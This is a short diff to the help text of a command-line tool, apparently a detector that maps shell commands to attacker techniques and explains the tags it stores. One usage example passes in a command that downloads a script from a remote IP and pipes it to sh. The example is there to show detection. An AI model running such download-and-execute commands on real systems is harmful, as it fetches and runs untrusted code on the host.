@@ -25,7 +25,7 @@ one, the states of its rules are applied.
 
 --tag shows what a stored tag came of: its event, the rule and version that made
 it, which test of the rule saw what, and whether the rule as it is now would make
-it, or why not. ttpcron tags --json shows the uuid of every tag.`,
+it, or why not. ttpcron tags --uuid shows the UUIDs, and --json those of all tags.`,
 		examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
 echo 'cat /proc/cpuinfo' | ttpcron explain -
 ttpcron explain --tag 9aa491e5-f03b-5d8f-9eb5-161becedcdd6
